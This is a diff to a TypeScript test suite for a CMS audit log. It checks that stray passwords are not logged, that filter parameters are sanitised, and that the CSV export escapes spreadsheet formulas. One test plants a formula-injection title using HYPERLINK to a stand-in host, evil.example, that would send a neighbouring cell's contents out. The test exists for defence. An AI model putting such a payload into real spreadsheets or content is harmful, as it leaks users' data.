@@ -8,7 +8,7 @@ import type { User } from '@/payload-types'
 
 import { auditApi } from './api'
 import { removeExpired } from './retention'
-import { searchAudit, type AuditRow } from './search'
+import { filterOf, searchAudit, type AuditRow } from './search'
 
 /**
  * The log through the doors people use: what each action leaves, who may read it, and that no
@@ -41,7 +41,11 @@ describe('the log of who did what', () => {
     expect(signedIn.some((e) => e.address === '192.0.2.41')).toBe(true)
     const [failed] = await entriesOf(`okand-${tag}@example.test`)
     expect(failed).toMatchObject({ kind: 'signInFailed', address: '192.0.2.42' })
-    const { rows } = await payload.db.drizzle.execute(sql`SELECT * FROM audit_log WHERE actor ILIKE ${`%${tag}%`}`)
+    // A password typed into the address field is not kept as the address.
+    expect((await restPost('/api/users/login', { email: `${wrong} lösenordet`, password: wrong }, { from: '192.0.2.43' })).status).toBe(401)
+    const pasted = (await searchAudit(payload, { actor: '(inte en e-postadress)' }, 50)).rows
+    expect(pasted.some((e) => e.address === '192.0.2.43')).toBe(true)
+    const { rows } = await payload.db.drizzle.execute(sql`SELECT * FROM audit_log WHERE actor ILIKE ${`%${tag}%`} OR address = '192.0.2.43'`)
     expect(JSON.stringify(rows)).not.toContain(wrong)
     expect(JSON.stringify(rows)).not.toContain(STAFF_PASSWORD)
   })
@@ -80,13 +84,22 @@ describe('the log of who did what', () => {
     const refused = await restGetRaw(auditApi.csv(), editorToken)
     expect(refused.status).toBe(403)
     expect(refused.text).toContain('Bara administratörer ser loggen.')
+    // A title that a spreadsheet would run as a formula is written as text.
+    const formula = await payload.create({ collection: 'articles', data: { title: `=HYPERLINK("https://evil.example/?"&A2;"x") ${tag}`, lead: 'Ingress.', _status: 'draft' }, draft: true, overrideAccess: true })
+    try {
+      await restPatch(`/api/articles/${formula.id}`, { _status: 'published' }, editorToken)
+    } finally {
+      await payload.delete({ collection: 'articles', id: formula.id, overrideAccess: true })
+    }
     const csv = await restGetRaw(auditApi.csv(`?person=${encodeURIComponent(editor.email)}&typ=published`), adminToken)
     expect(csv.status).toBe(200)
     expect(csv.headers.get('content-disposition')).toContain('logg.csv')
     const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\r\n')
     expect(lines[0]).toBe('Tid;Person;Vad;Samling;Dokument;Rubrik;Fält;Anteckning;Adress')
     expect(lines.slice(1).every((l) => l.includes(';Publicerat;'))).toBe(true)
-    expect(lines.length).toBeGreaterThanOrEqual(2)
+    expect(lines.length).toBeGreaterThanOrEqual(3)
+    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2;""x"") ${tag}"`)
+    expect(filterOf(new URLSearchParams('fran=2024-00-10&till=0000-01-01&typ=okand&sida=-3'))).toEqual({ page: 1 })
     const today = new Date().toISOString().slice(0, 10)
     expect((await searchAudit(payload, { actor: editor.email.toLowerCase(), from: '2000-01-01', to: '2000-12-31' })).rows).toEqual([])
     expect((await searchAudit(payload, { actor: editor.email.toLowerCase(), kind: 'signIn', from: today, to: today })).rows.length).toBeGreaterThan(0)
